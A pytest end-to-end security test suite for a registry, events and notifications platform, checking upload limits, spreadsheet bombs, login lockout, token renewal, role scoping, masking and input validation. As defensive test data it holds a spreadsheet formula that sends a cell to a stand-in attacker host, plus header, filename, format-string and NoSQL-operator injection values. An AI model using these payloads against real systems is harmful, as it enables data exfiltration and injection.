"""What a security and reliability review found, each proved through HTTP against the running
services: bodies bounded and authenticated before they are read, spreadsheet bombs and formulas,
login throttling and short-lived tokens, scope of imports, deliveries and office settings,
control characters and header injection, filenames, masking by role, webhook input."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import os
import socket
import time
import urllib.parse
import uuid

import httpx
import pytest
from openpyxl import Workbook, load_workbook

from tests.bench.hardening import bomb
from tests.e2e.events_support import create_kegiatan, create_ormas

pytestmark = pytest.mark.e2e
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _raw(port: int, head: str) -> str:
    """Sends only a request's head over a socket and reads what the server answers before any body."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(head.encode())
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        return data.decode("latin-1")


def _port(platform, service: str) -> int:
    return int(platform.urls[service].rsplit(":", 1)[1])


# --- 1. request size, authentication before the body --------------------------------------------

def test_an_anonymous_200_mb_upload_is_refused_before_its_body_is_read(platform):
    head = ("POST /ormas/imports HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
            f"Content-Length: {200 * 1024 * 1024}\r\n\r\n")
    answer = _raw(_port(platform, "registry"), head)  # no byte of the body was sent
    assert answer.startswith("HTTP/1.1 401"), answer[:200]
    assert "application/problem+json" in answer


def test_a_declared_oversized_body_is_413_at_once(platform, mint):
    head = (f"POST /ormas HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {mint('operator', '35.75')}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {50 * 1024 * 1024}\r\n\r\n")
    answer = _raw(_port(platform, "registry"), head)
    assert answer.startswith("HTTP/1.1 413"), answer[:200]


async def test_a_streamed_body_past_its_limit_is_413_and_writes_nothing(platform, headers):
    async def chunks():
        yield b'{"name": "'
        for _ in range(64):
            yield b"x" * 8192
        yield b'", "kind": "ormas", "region": "35.75"}'

    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as http:
        r = await http.post("/ormas", content=chunks(), headers={**headers("operator", "35.75"),
                                                                 "Content-Type": "application/json"})
        assert r.status_code == 413 and r.headers["content-type"] == "application/problem+json"
        assert "larger than" in r.json()["detail"]
        big = b"Nama Ormas\n" + b"x" * (21 * 1024 * 1024)
        r = await http.post("/ormas/imports", files={"file": ("big.csv", big, "text/csv")},
                            headers=headers("operator", "35.75"))
        assert r.status_code == 413  # past the route's bound of 20 MB and the multipart around it


# --- 2. XLSX bomb ---------------------------------------------------------------------------------

_bomb = bomb  # the bench's (tests/bench/hardening.py)


def _wide_or_long(rows: int, cols: int) -> bytes:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append(["Nama Ormas", *[f"Kolom {i}" for i in range(cols - 1)]])
    for i in range(rows):
        ws.append([f"Ormas {i}", *(["x"] * (cols - 1))])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


async def test_an_xlsx_bomb_is_read_as_what_it_holds_and_the_loop_keeps_answering(platform, headers):
    bomb = _bomb()
    assert len(bomb) < 10_000
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=60) as http:
        r = await http.post("/ormas/imports", params={"dry_run": "true"}, files={"file": ("bom.xlsx", bomb, XLSX)},
                            headers=headers("operator", "35.75"), data={"region": "35.75"})
        assert r.status_code == 200, r.text
        assert r.json()["rows"] == 1 and r.json()["invalid"] == 0
        wide = await http.post("/ormas/imports", params={"dry_run": "true"},
                               files={"file": ("lebar.xlsx", _wide_or_long(2, 150), XLSX)},
                               headers=headers("operator", "35.75"), data={"region": "35.75"})
        assert wide.status_code == 422 and "at most 100 columns" in wide.json()["detail"]


async def test_a_50000_row_limit_is_met_while_reading(platform, headers):
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=120) as http:
        r = await http.post("/ormas/imports", params={"dry_run": "true"},
                            files={"file": ("panjang.xlsx", _wide_or_long(50_002, 1), XLSX)},
                            headers=headers("operator", "35.75"), data={"region": "35.75"})
    assert r.status_code == 422 and "at most 50000 rows" in r.json()["detail"]


async def test_health_answers_while_an_import_is_parsed(platform, headers):
    data = _wide_or_long(20_000, 4)
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=120) as http:
        upload = asyncio.create_task(http.post(
            "/ormas/imports", params={"dry_run": "true"}, files={"file": ("besar.xlsx", data, XLSX)},
            headers=headers("operator", "35.75"), data={"region": "35.75"}))
        answered = 0
        while not upload.done():
            r = await http.get("/health/live", timeout=5)  # a parse on the loop would stall this past 5 s
            assert r.status_code == 200
            answered += 1
            await asyncio.sleep(0.05)
        assert (await upload).status_code == 200
    assert answered >= 2


# --- 3. login: throttled, in a thread, logged masked ------------------------------------------------

async def _user(http, headers, role="operator", region="35.75") -> tuple[str, str]:
    username, password = f"u{uuid.uuid4().hex[:8]}", "rahasia-yang-panjang"
    r = await http.post("/users", json={"username": username, "full_name": "Petugas Uji", "role": role,
                                        "region": region, "password": password}, headers=headers("admin", region))
    assert r.status_code == 201, r.text
    return username, password


async def test_failed_logins_lock_the_account_until_an_admin_unlocks_it(platform, headers):
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as http:
        username, password = await _user(http, headers)
        for _ in range(5):
            r = await http.post("/auth/token", data={"username": username, "password": "salah-salah-salah"})
            assert r.status_code == 401
        locked = await http.post("/auth/token", data={"username": username, "password": password})
        assert locked.status_code == 429 and int(locked.headers["retry-after"]) > 0
        assert locked.headers["content-type"] == "application/problem+json"
        assert (await http.post(f"/users/{username}/unlock", headers=headers("admin", "35.75"))).status_code == 204
        ok = await http.post("/auth/token", data={"username": username, "password": password})
        assert ok.status_code == 200
    log = (platform.group.log_dir / "registry-api.log").read_text(errors="replace")
    assert "failed login for" in log and username not in log  # logged, masked


async def test_fifty_concurrent_wrong_logins_do_not_stall_the_registry(platform, headers):
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=60) as http:
        names = [f"nobody{uuid.uuid4().hex[:6]}" for _ in range(50)]
        logins = [asyncio.create_task(http.post("/auth/token", data={"username": n, "password": "salah-salah"}))
                  for n in names]
        worst = 0.0
        while not all(t.done() for t in logins):
            t0 = time.perf_counter()
            assert (await http.get("/health/live", timeout=5)).status_code == 200
            worst = max(worst, time.perf_counter() - t0)
            await asyncio.sleep(0.02)
        assert all(t.result().status_code == 401 for t in logins)


# --- 28. accounts: list, deactivate, reset; short-lived tokens renewed at the registry ----------------

async def test_a_deactivated_user_cannot_renew_and_a_reset_password_ends_sessions(platform, headers):
    admin = headers("admin", "35.75")
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as http:
        username, password = await _user(http, headers)
        tok = (await http.post("/auth/token", data={"username": username, "password": password})).json()
        assert tok["expires_in"] <= 15 * 60 and tok["refresh_token"]
        renewed = await http.post("/auth/token", data={"grant_type": "refresh_token",
                                                       "refresh_token": tok["refresh_token"]})
        assert renewed.status_code == 200
        again = await http.post("/auth/token", data={"grant_type": "refresh_token",
                                                     "refresh_token": tok["refresh_token"]})
        assert again.status_code == 401  # a refresh token is used once
        listed = (await http.get("/users", params={"region": "35.75", "limit": 200}, headers=admin)).json()
        assert any(u["username"] == username for u in listed["items"])
        others = (await http.get("/users", headers=headers("admin", "33"), params={"limit": 200})).json()["items"]
        assert all(u["region"] == "33" or u["region"].startswith("33.") for u in others)
        off = await http.patch(f"/users/{username}", json={"active": False}, headers=admin)
        assert off.status_code == 200 and off.json()["active"] is False
        refused = await http.post("/auth/token", data={"grant_type": "refresh_token",
                                                       "refresh_token": renewed.json()["refresh_token"]})
        assert refused.status_code == 401
        assert (await http.post("/auth/token", data={"username": username, "password": password})).status_code == 401
        assert (await http.patch(f"/users/{username}", json={"active": True}, headers=admin)).status_code == 200
        tok = (await http.post("/auth/token", data={"username": username, "password": password})).json()
        reset = await http.post(f"/users/{username}/password", json={"password": "kata-sandi-baru-panjang"},
                                headers=admin)
        assert reset.status_code == 204
        assert (await http.post("/auth/token", data={"grant_type": "refresh_token",
                                                     "refresh_token": tok["refresh_token"]})).status_code == 401
        assert (await http.post("/auth/token", data={"username": username,
                                                     "password": "kata-sandi-baru-panjang"})).status_code == 200
        # another province's admin neither sees nor changes the account
        assert (await http.patch(f"/users/{username}", json={"active": False},
                                 headers=headers("admin", "33"))).status_code == 404


# --- 6. the import obeys the API's rules ------------------------------------------------------------

async def test_an_import_records_only_what_the_api_would_let_the_account_record(platform, headers):
    tag = uuid.uuid4().hex[:6]
    lines = ["Nama Ormas,Jenis,Kode Wilayah,Nomor SKT,Tanggal SKT",
             f"Kota Ormas {tag},Ormas,35.75,,",
             f"Provinsi Ormas {tag},Ormas,35,,"]
    body = "\n".join(lines).encode()
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=60) as http:
        province = await http.post("/ormas/imports", params={"dry_run": "true"},
                                   files={"file": ("p.csv", body, "text/csv")}, headers=headers("operator", "35"))
        report = province.json()
        assert report["created"] == 0 and [(e["row"], e["field"]) for e in report["errors"]] == [(2, "region")]
        with_skt = "\n".join([lines[0], f"Ber SKT {tag},Ormas,35.75,220/9/{tag},2025-01-02"]).encode()
        op = await http.post("/ormas/imports", files={"file": ("s.csv", with_skt, "text/csv")},
                             headers=headers("operator", "35.75"))
        assert op.json()["created"] == 0 and op.json()["errors"][0]["field"] == "skt_number"
        adm = await http.post("/ormas/imports", files={"file": ("s.csv", with_skt, "text/csv")},
                              headers=headers("admin", "35.75"))
        assert adm.json()["created"] == 1
        long_name = "\n".join([lines[0], f"{'N' * 301},Ormas,35.75,,"]).encode()
        r = await http.post("/ormas/imports", files={"file": ("n.csv", long_name, "text/csv")},
                            headers=headers("operator", "35.75"))
        assert r.status_code == 200 and r.json()["errors"][0]["field"] == "name"


# --- 21. imports answering 500 -------------------------------------------------------------------

@pytest.mark.parametrize("content", [
    b"Nama Ormas\n\x81\x8d\x8f\x90\x9d\xff\xfe bukan teks\n",  # neither UTF-8 nor cp1252
    b"Nama Ormas\n\"" + b"x" * (200 * 1024) + b"\"\n",  # a field over csv's 128 KiB
])
async def test_an_unreadable_csv_is_422_not_500(platform, headers, content):
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=60) as http:
        r = await http.post("/ormas/imports", files={"file": ("x.csv", content, "text/csv")},
                            headers=headers("operator", "35.75"), data={"region": "35.75"})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "file", r.text


# --- 12. formulas in exports and reports ---------------------------------------------------------

async def test_a_formula_named_ormas_exports_as_text(platform, headers):
    tag = uuid.uuid4().hex[:6]
    name = f'=HYPERLINK("http://evil.example/?d="&A3,"Klik {tag}")'
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=60) as http:
        await create_ormas(http, headers("operator", "35.75"), name=name, kind="ormas", region="35.75")
        params = {"region": "35.75"}
        csv_export = await http.get("/ormas/export", params={**params, "format": "csv"}, headers=headers("operator", "35.75"))
        rows = list(csv.DictReader(io.StringIO(csv_export.content.decode("utf-8-sig"))))
        cell = next(r["Nama Ormas"] for r in rows if tag in r["Nama Ormas"])
        assert cell == "'" + name
        xlsx = await http.get("/ormas/export", params={**params, "format": "xlsx"}, headers=headers("operator", "35.75"))
        sheet = load_workbook(io.BytesIO(xlsx.content)).active
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row[:1] if tag in str(c.value)]
        assert cells and cells[0].value == name and cells[0].data_type == "s"  # text, not a formula
        # and an export imports back as the same name
        back = await http.post("/ormas/imports", params={"dry_run": "true"},
                               files={"file": ("e.csv", csv_export.content, "text/csv")}, headers=headers("admin", "35.75"))
        assert back.status_code == 200 and back.json()["created"] == 0


# --- 13, 14. control characters and header injection ------------------------------------------------

async def test_control_characters_and_line_breaks_are_refused_where_they_break_things(platform, headers):
    op = headers("operator", "35.75")
    start = dt.datetime.now(dt.UTC) + dt.timedelta(days=30)
    base = {"title": "Dialog", "type": "dialog", "venue_name": "Aula", "venue_region": "35.75",
            "starts_at": start.isoformat(), "ends_at": (start + dt.timedelta(hours=3)).isoformat()}
    async with httpx.AsyncClient(base_url=platform.urls["events"], timeout=30) as ev:
        r = await ev.post("/kegiatan", json={**base, "venue_name": "Aula\x0bBaru"}, headers=op)
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "venue_name"
        r = await ev.post("/kegiatan", json={**base, "letter": {"subject": "Undangan\r\nBcc: semua@contoh.id"}},
                          headers=op)
        assert r.status_code == 422 and r.json()["errors"][0]["field"].startswith("letter")
        ok = await ev.post("/kegiatan", json={**base, "theme": "Paragraf satu.\nParagraf dua."}, headers=op)
        assert ok.status_code == 201
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as reg:
        r = await reg.post("/ormas", json={"name": "Ormas", "kind": "ormas", "region": "35.75",
                                           "address": {"street": "Jl. A\x00"}}, headers=op)
        assert r.status_code == 422


# --- 5. letter preview bounded -----------------------------------------------------------------------

async def test_the_preview_bounds_every_field(platform, headers):
    k = {"title": "x" * 301, "type": "dialog", "starts_at": "2027-04-10T01:00:00Z", "ends_at": "2027-04-10T05:00:00Z",
         "venue": {"name": "Aula", "region": "35.75", "zone": "WIB"},
         "organiser": {"name": "Bakesbangpol", "region": "35.75"}}
    async with httpx.AsyncClient(base_url=platform.urls["notifications"], timeout=30) as nt:
        r = await nt.post("/preview", json={"kegiatan": k}, headers=headers("operator", "35.75"))
        assert r.status_code == 422 and "title" in r.json()["errors"][0]["field"]
        r = await nt.post("/preview", json={"kegiatan": {**k, "title": "Dialog", "agenda": [{"title": "a"}] * 101}},
                          headers=headers("operator", "35.75"))
        assert r.status_code == 422
        r = await nt.post("/preview", json={"kegiatan": {**k, "title": "Dialog", "extra": "x" * 100_000}},
                          headers=headers("operator", "35.75"))
        assert r.status_code == 422


# --- 16. SKT number formats ------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["{seq:>300000000}", "{seq.__class__}", "{seq[0]}", "{seq!r}", "{nama}/{seq}"])
async def test_an_skt_number_format_names_only_its_fields(platform, headers, fmt):
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as http:
        r = await http.put("/offices/35.74", json={"name": "Bakesbangpol Kota Probolinggo", "skt_number_format": fmt},
                           headers=headers("admin", "35.74"))
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "skt_number_format"


# --- 8. office settings by the office's own admin -----------------------------------------------------

async def test_a_province_admin_does_not_write_a_citys_settings(platform, headers):
    body = {"name": "Badan Kesatuan Bangsa dan Politik Kota Batu"}
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as http:
        assert (await http.put("/offices/35.79", json=body, headers=headers("admin", "35"))).status_code == 403
        assert (await http.put("/offices/35.79", json=body, headers=headers("admin", "35.79"))).status_code == 200
        assert (await http.put("/offices/35.79", json=body, headers=headers("admin", ""))).status_code == 200


# --- 15. document filenames --------------------------------------------------------------------------

async def test_a_document_named_in_unicode_with_quotes_downloads(platform, headers):
    op = headers("operator", "35.75")
    pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as http:
        o = await create_ormas(http, op, name=f"Dokumen {uuid.uuid4().hex[:6]}", kind="ormas", region="35.75")
        name = 'Surat “Domisili”"; filename*=UTF-8\'\'jahat.exe.pdf'
        r = await http.post(f"/ormas/{o['id']}/documents", data={"type": "surat_domisili"},
                            files={"file": (name, pdf, "application/pdf")}, headers=op)
        assert r.status_code == 201, r.text
        got = await http.get(r.headers["location"], headers=op)
    assert got.status_code == 200 and got.content == pdf
    disposition = got.headers["content-disposition"]
    fallback = disposition.split('filename="', 1)[1].split('"', 1)[0]
    assert disposition.count("filename*=") == 1 and not set('"\\;*=') & set(fallback)
    encoded = disposition.split("filename*=UTF-8''", 1)[1]
    assert urllib.parse.unquote(encoded).startswith("Surat “Domisili”")


# --- 25. one masking policy by role -------------------------------------------------------------------

async def test_an_analyst_sees_contacts_masked_everywhere(platform, headers):
    op, analyst = headers("operator", "35.75"), headers("analyst", "35")
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as reg:
        o = await create_ormas(reg, op, name=f"Kontak {uuid.uuid4().hex[:6]}", kind="ormas", region="35.75",
                               phone="081234567890", whatsapp="081234567891", email="sekretariat@kontak.or.id")
        seen = (await reg.get(f"/ormas/{o['id']}", headers=analyst)).json()
        assert seen["phone"] != "+6281234567890" and seen["phone"].endswith("7890")
        assert seen["email"] != "sekretariat@kontak.or.id" and seen["email"].endswith("@kontak.or.id")
        assert (await reg.get(f"/ormas/{o['id']}", headers=op)).json()["phone"] == "+6281234567890"
    async with httpx.AsyncClient(base_url=platform.urls["events"], timeout=30) as ev:
        k = await create_kegiatan(ev, op, title="Audiensi", type="dialog")
        guests = {"guests": [{"name": "Kapolres", "phone": "+6281299990000", "email": "kapolres@polri.go.id"}]}
        assert (await ev.put(f"/kegiatan/{k['id']}/invitees", json=guests, headers=op)).status_code == 200
        mine = (await ev.get(f"/kegiatan/{k['id']}", headers=op)).json()["guests"][0]
        theirs = (await ev.get(f"/kegiatan/{k['id']}", headers=analyst)).json()["guests"][0]
        assert mine["phone"] == "+6281299990000" and theirs["phone"] != mine["phone"]
        assert theirs["email"] != mine["email"]
        listed = (await ev.get("/kegiatan", params={"region": "35.75", "limit": 200}, headers=analyst)).json()["items"]
        assert all(g.get("phone") in (None, "") or "*" in g["phone"] for i in listed for g in i["guests"])


# --- 7. deliveries by each message's region; SKT notices listed apart ---------------------------------

async def test_skt_notices_are_not_a_kegiatan_and_list_only_the_callers_region(platform, headers):
    async with httpx.AsyncClient(base_url=platform.urls["notifications"], timeout=30) as nt:
        r = await nt.get("/kegiatan/skt/deliveries", headers=headers("operator", "35.75"))
        assert r.status_code == 404
        mine = await nt.get("/skt-notices", headers=headers("operator", "35.75"))
        assert mine.status_code == 200
        assert all(m["id"].startswith("skt:") for m in mine.json()["items"])
        other = await nt.get("/skt-notices", params={"region": "33"}, headers=headers("operator", "35.75"))
        assert other.status_code == 404


# --- 9. webhook input -------------------------------------------------------------------------------

async def test_a_webhook_status_id_that_is_not_a_string_matches_nothing(platform):
    import hashlib
    import hmac
    import json

    body = json.dumps({"entry": [{"changes": [{"value": {"statuses": [
        {"id": {"$gt": ""}, "status": "read"}, {"id": "x" * 5000, "status": "read"},
        {"id": "wamid.ok", "status": "failed", "errors": "bukan daftar"}]}}]}]}).encode()
    sig = "sha256=" + hmac.new(b"development-app-secret", body, hashlib.sha256).hexdigest()
    async with httpx.AsyncClient(base_url=platform.urls["notifications"], timeout=30) as nt:
        r = await nt.post("/webhooks/whatsapp", content=body,
                          headers={"X-Hub-Signature-256": sig, "Content-Type": "application/json"})
    assert r.status_code == 200 and r.json() == {"received": 3, "applied": 0}


# --- 23. RSVP size --------------------------------------------------------------------------------------

async def test_rsvp_delegate_names_are_bounded(platform, headers, kafka):
    from tests.e2e.events_support import invitations, rsvp_api, set_invitees_when_copied, step

    op = headers("operator", "35.75")
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as reg:
        o = await create_ormas(reg, op, name=f"Utusan {uuid.uuid4().hex[:6]}", kind="ormas", region="35.75",
                               email=f"u{uuid.uuid4().hex[:6]}@contoh.or.id")
    async with httpx.AsyncClient(base_url=platform.urls["events"], timeout=60) as ev:
        k = await create_kegiatan(ev, op, title="Rapat Utusan", type="rapat_koordinasi", seats_per_ormas=2)
        await set_invitees_when_copied(ev, op, k["id"], {"ormas_ids": [o["id"]]}, 1)
        assert (await step(ev, op, k["id"], "publish")).status_code == 200
        inv = (await invitations(kafka, platform.topic("events.participation"), k["id"], 1))[0]["data"]
        url = rsvp_api(inv["change"]["rsvp_url"])
        r = await ev.post(url, json={"attending": True, "delegates": ["x" * 201]})
        assert r.status_code == 422
        r = await ev.post(url, json={"attending": True, "delegates": ["Ahmad", "Budi"]})
        assert r.status_code == 200


# --- 26. access logs: the production command line logs no URL ---------------------------------------

def test_the_production_command_line_logs_no_rsvp_url(platform, tmp_path):
    import subprocess
    import sys

    import yaml

    from deploy.local import stack

    compose = yaml.safe_load((stack.ROOT / "docker-compose.yml").read_text())
    command = list(compose["services"]["events-api"]["command"])
    port = 18099
    command[command.index("--port") + 1] = str(port)
    command[command.index("--host") + 1] = "127.0.0.1"
    command.remove("--proxy-headers")
    env = {**os.environ, **platform.env("events"), "EVENTS_MONGO_DB": platform.db_name("events") + "_cmd"}
    out = tmp_path / "events-api.log"
    with out.open("wb") as log:
        proc = subprocess.Popen([sys.executable, "-m", *command], env=env, stdout=log, stderr=subprocess.STDOUT,
                                cwd=stack.ROOT)
        try:
            secret = f"RAHASIA{uuid.uuid4().hex}"

            def up():
                try:
                    return httpx.get(f"http://127.0.0.1:{port}/health/live", timeout=2).status_code == 200
                except httpx.HTTPError:
                    return False

            deadline = time.monotonic() + 60
            while not up():
                assert proc.poll() is None and time.monotonic() < deadline, out.read_text(errors="replace")
                time.sleep(0.2)
            r = httpx.get(f"http://127.0.0.1:{port}/rsvp/{uuid.uuid4()}/{secret}", timeout=10)
            assert r.status_code in (404, 410)
        finally:
            proc.terminate()
            proc.wait(timeout=30)
    text = out.read_text(errors="replace")
    assert secret not in text
    assert 'HTTP/1.1" 404' not in text  # no uvicorn access line; the service's own line names the route only


# --- 22. an addition that replaces a crashed fan-out run loses none of its invitations ----------------

async def test_an_addition_after_a_crashed_fan_out_invites_what_the_crashed_run_wrote(platform, headers, mongo, kafka):
    from deploy.local import stack
    from services.events.domain import kegiatan as kegiatan_rules
    from tests.e2e.events_support import invitations, publish_killed_mid_fan_out
    from tests.helpers import eventually

    tag = uuid.uuid4().hex[:6]
    ids = [f"carry-{tag}-{i:02d}" for i in range(31)]
    kid, env, db = await publish_killed_mid_fan_out(platform, mongo, headers("operator", "35.75"), name="carry",
                                                    port=18013, ids=ids, invite=30)
    group = platform.group
    stored = await db["kegiatan"].find_one({"_id": kid})
    assert stored["fanout"]["state"] == "pending"
    assert await db["participants"].count_documents({"kegiatan_id": kid}) == 10  # written, never published
    # before any process resumes it, an operator adds one ormas: the addition's write, as the API makes it
    run = uuid.uuid4().hex
    await db["invitee_lists"].replace_one({"_id": f"{kid}:{run}"}, {"_id": f"{kid}:{run}", "ormas_ids": ids}, upsert=True)
    await db["kegiatan"].update_one({"_id": kid}, {"$set": {
        "fanout": kegiatan_rules.next_fanout(stored["fanout"], run=run, by="tester"), "invitee_list": f"{kid}:{run}",
        "invited_count": 31}})
    restarted = stack.api_component("events", 18013, env, name="events-carry-restarted")
    proc = group.start(restarted)
    try:
        group.wait_healthy(restarted, proc)
        invited = await invitations(kafka, platform.topic("events.participation"), kid, 31, timeout=60)
        done = await eventually(lambda: db["kegiatan"].find_one({"_id": kid, "fanout.state": "done"}), what="done")
        assert done["fanout"]["published"] == 31
    finally:
        group.stop("events-carry-restarted")
        await mongo.drop_database(env["EVENTS_MONGO_DB"])
    assert len({e["data"]["participant_id"] for e in invited}) == 31


# --- 27. the first admin, made by the command, logs in -------------------------------------------------

async def test_the_admin_command_writes_where_the_registry_reads(platform):
    import subprocess
    import sys

    username = f"admin{uuid.uuid4().hex[:6]}"
    env = {**os.environ, **platform.env("registry")}
    r = subprocess.run([sys.executable, "-m", "services.registry.admin", "create-user", "--username", username,
                        "--full-name", "Admin Pertama", "--role", "admin", "--region", "", "--password-stdin"],
                       input="kata-sandi-admin-panjang\n", capture_output=True, text=True, env=env, timeout=60)
    assert r.returncode == 0, r.stderr
    assert f"in database {platform.db_name('registry')}" in r.stdout
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as http:
        login = await http.post("/auth/token", data={"username": username, "password": "kata-sandi-admin-panjang"})
    assert login.status_code == 200, login.text


# --- 4. filtered figures are bounded ---------------------------------------------------------------------

async def test_figures_filtered_twice_are_counted_one_at_a_time_and_kept_a_moment(platform, headers):
    import redis.asyncio as aioredis

    async with httpx.AsyncClient(base_url=platform.urls["reporting"], timeout=30) as rp:
        bad = await rp.get("/stats/ormas", params={"kind": "partai"}, headers=headers("analyst", "35"))
        assert bad.status_code == 422
        answers = await asyncio.gather(*(rp.get("/stats/ormas", params={"kind": "lsm", "bidang": "sosial", "region": "35"},
                                                headers=headers("analyst", "35")) for _ in range(6)))
    assert all(a.status_code in (200, 429) for a in answers)
    ok = [a for a in answers if a.status_code == 200]
    assert ok and all(a.json()["total"] == ok[0].json()["total"] for a in ok)
    for a in answers:
        if a.status_code == 429:
            assert int(a.headers["retry-after"]) > 0
    r = aioredis.from_url(platform.env("reporting")["REPORTING_REDIS_URL"])
    try:
        keys = [k async for k in r.scan_iter("kesbang:stats:*|lsm|sosial|*")]
        assert keys and 0 < await r.ttl(keys[0]) <= 5
    finally:
        await r.aclose()


async def test_a_document_number_with_a_control_character_is_refused(platform, headers):
    op = headers("operator", "35.75")
    pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    async with httpx.AsyncClient(base_url=platform.urls["registry"], timeout=30) as http:
        o = await create_ormas(http, op, name=f"Nomor {uuid.uuid4().hex[:6]}", kind="ormas", region="35.75")
        r = await http.post(f"/ormas/{o['id']}/documents", data={"type": "surat_domisili", "number": "12\x07/2026"},
                            files={"file": ("d.pdf", pdf, "application/pdf")}, headers=op)
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "number"
